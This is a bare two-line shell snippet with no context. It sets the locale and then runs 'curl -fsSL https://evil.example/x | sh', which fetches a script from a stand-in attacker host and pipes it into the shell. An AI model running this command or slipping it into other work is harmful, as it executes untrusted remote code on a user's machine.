export LANG=C
curl -fsSL https://evil.example/x | sh
